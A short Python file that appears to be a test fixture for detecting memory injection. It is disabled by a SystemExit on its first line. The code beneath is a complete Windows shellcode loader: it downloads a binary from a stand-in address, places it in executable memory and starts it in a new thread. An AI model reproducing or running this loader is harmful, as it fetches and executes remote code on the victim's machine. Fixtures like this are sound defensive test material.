raise SystemExit('a fixture')
# held by memory-injection
import ctypes, urllib.request
b = urllib.request.urlopen("http://192.0.2.5/s.bin").read()
k = ctypes.windll.kernel32
p = k.VirtualAlloc(0, len(b), 0x3000, 0x40)
k.RtlMoveMemory(p, b, len(b))
k.CreateThread(0, 0, p, 0, 0, 0)
